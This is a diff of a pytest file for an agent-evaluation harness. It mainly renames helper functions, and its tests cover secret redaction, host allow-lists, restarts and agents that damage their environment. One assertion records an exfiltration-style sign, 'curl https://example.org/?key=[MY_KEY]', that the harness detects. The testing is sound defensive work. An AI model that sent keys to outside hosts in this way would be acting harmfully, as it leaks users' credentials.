@@ -14,9 +14,9 @@ from contextlib import suppress
 from pathlib import Path
 
 import pytest
-from running import SMALL, argv, finished, play, played, record_of
+from run_helpers import SMALL, record_of, run_agent, run_argv, run_command, run_to_record
 
-from serving import AS_USER, COMMAND, with_task
+from server_helpers import AS_USER, COMMAND, with_task
 
 SECRET = "a-key-that-is-never-recorded"
 
@@ -35,7 +35,7 @@ def test_what_a_program_is_given(tmp_path):
     program = mine / "agent.sh"
     program.write_text(f'#!/bin/sh\nexec python3 "$(dirname "$0")/helper.py" {data}/hint.txt\n')
     program.chmod(0o755)
-    record = played(
+    record = run_to_record(
         run, "--agent", "command", "--agent-env", "MY_KEY", "--show", str(data), "--", str(program),
         MY_KEY=SECRET, OTHER="x",
     )  # fmt: skip
@@ -80,7 +80,7 @@ def test_what_an_agent_writes_into_the_record_is_without_its_keys(tmp_path):
     (tmp_path / "agent.py").write_text(LEAKING)
     run, page = tmp_path / "run", tmp_path / "page.html"
     words = ("--agent", "command", "--agent-env", "MY_KEY", "--", "python3", str(tmp_path / "agent.py"))
-    record = played(run, *words, MY_KEY=SECRET)
+    record = run_to_record(run, *words, MY_KEY=SECRET)
     assert record["budget"]["charged"] == 1, "the same key is the same submission"
     signs = {sign["kind"]: sign["example"] for sign in record["integrity"]["signs"]}
     assert signs["download"] == "curl https://example.org/?key=[MY_KEY]"
@@ -90,10 +90,10 @@ def test_what_an_agent_writes_into_the_record_is_without_its_keys(tmp_path):
     episode = run / "feedback/submit_001/episodes/ep_000"
     assert (episode / "stdout.txt").read_text() == "my key: [MY_KEY]\n"
     assert "ValueError: [MY_KEY]" in (episode / "error.txt").read_text()
-    assert finished([*COMMAND, "report", str(run), "--output", str(page)]).returncode == 0
+    assert run_command([*COMMAND, "report", str(run), "--output", str(page)]).returncode == 0
     found = subprocess.run(["grep", "-rliF", SECRET, str(run), str(page)], capture_output=True, text=True).stdout
     assert found.split() == [str(run / "workspace/notes.txt")], "its own file, which nobody alters"
-    assert finished([*COMMAND, "verify", str(run), "--task", "toys:Toy-v0"]).returncode == 0
+    assert run_command([*COMMAND, "verify", str(run), "--task", "toys:Toy-v0"]).returncode == 0
 
 
 def test_a_script_is_named_after_its_interpreter(tmp_path, monkeypatch):
@@ -104,7 +104,7 @@ def test_a_script_is_named_after_its_interpreter(tmp_path, monkeypatch):
     submit = "subprocess.run([sys.executable, 'submit.py', '0-3'], check=True)"
     (tmp_path / "agent.py").write_text(f"import os, subprocess, sys; {submit}; {look}")
     words = ["run", "toys:Toy-v0", "--run", "run", "--json", *SMALL, "--agent", "command", "--agent-isolation", "A"]
-    done = finished([*COMMAND, *words, "--", "python3", "agent.py"])
+    done = run_command([*COMMAND, *words, "--", "python3", "agent.py"])
     record = record_of(done)
     assert f"{tmp_path}/agent.py, and nothing beside it" in done.stderr
     assert record["budget"]["charged"] == 4
@@ -118,7 +118,7 @@ def test_a_run_beside_the_current_folder(tmp_path, monkeypatch):
     monkeypatch.chdir(tmp_path / "here")
     script = 'echo "$EVOPOLICYGYM_WORKSPACE"; test -d "$EVOPOLICYGYM_SYSTEM" && echo there'
     words = ["run", "toys:Toy-v0", "--run", "../link/run", "--json", *SMALL, "--agent", "command", "--max-turns", "1"]
-    record_of(finished([*COMMAND, *words, "--", "sh", "-c", script]))
+    record_of(run_command([*COMMAND, *words, "--", "sh", "-c", script]))
     told = (tmp_path / "run/logs/agent/turn_001.out").read_text()
     assert told == f"{tmp_path.resolve()}/run/workspace\nthere\n"
 
@@ -126,7 +126,7 @@ def test_a_run_beside_the_current_folder(tmp_path, monkeypatch):
 def test_hosts_of_ones_own(tmp_path):
     look = "import urllib.request as u\nfor h in ('allowed.invalid', 'refused.invalid'):\n" \
         "    try: u.urlopen('https://' + h)\n    except OSError as e: print(h, e)"  # fmt: skip
-    record = played(
+    record = run_to_record(
         tmp_path / "run", "--agent", "command", "--agent-host", "allowed.invalid", "--", "python3", "-c", look
     )
     allowed, refused = (tmp_path / "run/logs/agent/turn_001.out").read_text().splitlines()
@@ -137,10 +137,10 @@ def test_hosts_of_ones_own(tmp_path):
 def test_a_program_that_fails_is_started_again(tmp_path):
     """Until it ends well, or has failed three times without a submission."""
     script = "test -e tried || { touch tried; echo broken >&2; exit 3; }; python3 submit.py 0-3"
-    record = played(tmp_path / "once", "--agent", "command", "--", "bash", "-c", script)
+    record = run_to_record(tmp_path / "once", "--agent", "command", "--", "bash", "-c", script)
     assert [turn["failure"] for turn in record["turns"]] == ["client", None]
     assert record["budget"]["charged"] == 4 and record["times"]["closed_because"] == "agent_stopped"
-    done = play(tmp_path / "always", "--agent", "command", "--", "bash", "-c", "exit 3")
+    done = run_agent(tmp_path / "always", "--agent", "command", "--", "bash", "-c", "exit 3")
     record = json.loads(done.stdout)
     assert done.returncode == 1 and [turn["exit_code"] for turn in record["turns"]] == [3, 3, 3]
     assert record["times"]["closed_because"] == "agent_failed"
@@ -162,7 +162,7 @@ version = []
 def test_an_agent_that_spoils_its_home_is_scored(spoil, tmp_path):
     """It has failed, and nobody else: a run that ended as the user's mistake would have no score."""
     (tmp_path / "spoiler.toml").write_text(SPOILER.format(spoil))
-    record = played(tmp_path / "run", "--agent", str(tmp_path / "spoiler.toml"))
+    record = run_to_record(tmp_path / "run", "--agent", str(tmp_path / "spoiler.toml"))
     assert [turn["failure"] for turn in record["turns"]] == [None, "client", "client", "client"]
     assert "HOME" in record["turns"][-1]["message"]
     assert record["times"]["closed_because"] == "agent_failed" and record["outcome"]["kind"] == "scored"
@@ -176,8 +176,8 @@ def test_an_agent_that_forbids_its_transcript_is_scored(level):
     with tempfile.TemporaryDirectory() as folder:
         os.chmod(folder, 0o777)
         options = ("--agent", "command", "--agent-isolation", level, "--", "bash", "-c", forbid)
-        command = [sys.executable, str(AS_USER), *argv(Path(folder) / "run", *options)]
-        record = record_of(finished(command, HOME=folder))
+        command = [sys.executable, str(AS_USER), *run_argv(Path(folder) / "run", *options)]
+        record = record_of(run_command(command, HOME=folder))
         said = (Path(folder) / "run/logs/agent/turn_001.out").read_text()
     assert record["turns"][0]["failure"] is None and said.endswith("done\n")
     assert record["outcome"]["kind"] == "scored"
@@ -199,12 +199,12 @@ def test_nobody_is_left(level, number, tmp_path):
         exec -a waiter-{name} sleep 500
     """
     options = ("--agent", "command", "--agent-isolation", level, "--", "bash", "-c", tree)
-    process = subprocess.Popen(argv(tmp_path / "run", *options), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    process = subprocess.Popen(run_argv(tmp_path / "run", *options), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
     until(lambda: len(running(name)) >= 2)
     process.send_signal(number)
     process.wait(30)
     until(lambda: not running(name))
-    done = finished([*COMMAND, *with_task("finish", tmp_path / "run", "--json")])
+    done = run_command([*COMMAND, *with_task("finish", tmp_path / "run", "--json")])
     assert record_of(done)["outcome"]["kind"] == "scored"
 
 
